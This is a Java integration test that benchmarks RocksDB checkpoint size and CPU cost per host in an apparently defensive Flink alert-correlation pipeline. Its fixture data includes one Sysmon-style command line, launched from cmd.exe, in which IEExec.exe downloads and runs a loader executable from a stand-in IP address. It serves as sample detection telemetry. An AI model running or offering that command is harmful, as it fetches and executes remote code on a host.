package io.weir.job;

import static org.assertj.core.api.Assertions.assertThat;

import io.weir.alert.AlertChange;
import io.weir.correlate.Telemetry;
import io.weir.correlate.Telemetry.Told;
import io.weir.job.rules.Ruled;
import io.weir.match.MatchedEvent;
import java.lang.management.ManagementFactory;
import java.nio.file.Path;
import java.util.Locale;
import org.apache.flink.api.common.typeinfo.Types;
import org.apache.flink.runtime.state.storage.FileSystemCheckpointStorage;
import org.apache.flink.streaming.runtime.streamrecord.StreamRecord;
import org.apache.flink.streaming.util.KeyedOneInputStreamOperatorTestHarness;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * What hosts cost in RocksDB: bytes of a checkpoint, and time of one core, of the second half, when the JIT has compiled what
 * the first ran. {@code -Dhosts=100000 -Dbusy=100000} by hand, for docs/performance.md. A quiet
 * host starts three processes, one of which matches a rule and connects once; a busy host does nothing else all day.
 */
class HostStateIT {

    private static final int HOSTS = Integer.getInteger("hosts", 1_000);
    private static final int BUSY = Integer.getInteger("busy", 2_000);
    private static final int QUIET_EVENTS = 4;
    private static final long MOST_BYTES_OF_A_QUIET_HOST = 4_096;

    @TempDir
    Path folder;

    @Test
    void aQuietHostIsSmall() throws Exception {
        try (var hosts = Hosts.start(folder)) {
            long begun = cpu();
            for (int i = 0; i < HOSTS; i++) {
                begun = i == HOSTS / 2 ? cpu() : begun;
                for (int step = 0; step < QUIET_EVENTS; step++) {
                    hosts.observe(quiet(i, step));
                }
            }
            double nanos = cpu() - begun;
            double bytes = (double) hosts.checkpoint("quiet") / HOSTS;
            say(
                    "quiet: %,d hosts, %,.0f bytes each, %.1f µs an event",
                    HOSTS, bytes, nanos / 1e3 / (HOSTS - HOSTS / 2) / QUIET_EVENTS);
            assertThat(bytes).isLessThan(MOST_BYTES_OF_A_QUIET_HOST);
        }
    }

    @Test
    void aBusyHostGrowsWithItsEvents() throws Exception {
        try (var hosts = Hosts.start(folder)) {
            long begun = cpu();
            for (int i = 0; i < BUSY; i++) {
                begun = i == BUSY / 2 ? cpu() : begun;
                hosts.observe(busy(i));
            }
            double nanos = cpu() - begun;
            double bytes = (double) hosts.checkpoint("busy") / BUSY;
            say(
                    "busy: %,d events of one host, %,.0f bytes each, %.1f µs an event",
                    BUSY, bytes, nanos / 1e3 / (BUSY - BUSY / 2));
            assertThat(bytes).isLessThan(MOST_BYTES_OF_A_QUIET_HOST);
        }
    }

    /** The operator of hosts, whose findings nobody takes. */
    private record Hosts(
            KeyedOneInputStreamOperatorTestHarness<String, Ruled<MatchedEvent>, AlertChange> harness,
            Outlet<AlertChange> outlet)
            implements AutoCloseable {

        static Hosts start(Path folder) throws Exception {
            var harness = new KeyedOneInputStreamOperatorTestHarness<>(
                    new WriteBehindOperator<>(OperatorChain.hostFunction()),
                    (Ruled<MatchedEvent> ruled) -> OperatorChain.host(ruled.element()),
                    Types.STRING);
            harness.setStateBackend(Backend.rocksDb(folder.resolve("db")));
            harness.setCheckpointStorage(new FileSystemCheckpointStorage(folder.toUri()));
            var outlet = new Outlet<AlertChange>();
            harness.setOutputCreator(serializer -> outlet);
            harness.setup();
            harness.open();
            return new Hosts(harness, outlet);
        }

        void observe(MatchedEvent event) throws Exception {
            harness.processElement(new StreamRecord<>(
                    new Ruled<>(Ruled.SHIPPED, event), event.event().time().micros() / 1_000));
            outlet.forget();
        }

        /** Takes a checkpoint to files; its size comes back. */
        long checkpoint(String name) throws Exception {
            long begun = System.nanoTime();
            long size = harness.snapshot(1, 1).getStateSize();
            say("%s: checkpoint of %,d bytes in %.2f s", name, size, (System.nanoTime() - begun) / 1e9);
            return size;
        }

        @Override
        public void close() {
            try {
                harness.close();
            } catch (Exception e) {
                throw new IllegalStateException("the operator does not close", e);
            }
        }
    }

    private static MatchedEvent quiet(int host, int step) {
        var told = switch (step) {
            case 0 -> Telemetry.start(id(host, step), host / 100, process(host, 0), process(host, 9));
            case 1 ->
                Telemetry.start(id(host, step), host / 100 + 5, process(host, 1), process(host, 0))
                        .matching(Telemetry.A);
            case 2 -> Telemetry.start(id(host, step), host / 100 + 6, process(host, 2), process(host, 1));
            default ->
                Telemetry.act(id(host, step), host / 100 + 7, process(host, 2)).matching(Telemetry.B);
        };
        return shown(told.on("ws-" + host + ".example.net")).event();
    }

    private static MatchedEvent busy(int number) {
        var told = number % 4 == 0
                ? Telemetry.start(id(0, number), number / 10, process(0, number), process(1, number % 50))
                : Telemetry.act(id(0, number), number / 10, process(0, number - number % 4))
                        .matching(number % 4 == 1 ? Telemetry.A : Telemetry.C);
        return shown(told.on("srv-1.example.net")).event();
    }

    /** With the fields that an analyst wants to see, as long as they usually are. */
    private static Told shown(Told told) {
        return told.rules().isEmpty()
                ? told
                : told.by("EXAMPLE\\m.keller")
                        .shows("CommandLine", "IEExec.exe http://93.184.216.34/upd/loader.exe")
                        .shows("ParentImage", "C:\\Windows\\System32\\cmd.exe")
                        .shows("Channel", "Microsoft-Windows-Sysmon/Operational");
    }

    private static String id(int host, int number) {
        return String.format(Locale.ROOT, "%016x%016x", host * 7_919L, number * 104_729L);
    }

    private static String process(int host, int number) {
        return String.format(Locale.ROOT, "%08x-99b3-6af1-0009-%012x", host, number);
    }

    private static long cpu() {
        return ManagementFactory.getThreadMXBean().getCurrentThreadCpuTime();
    }

    private static void say(String format, Object... values) {
        System.out.println(String.format(Locale.ROOT, format, values));
    }
}
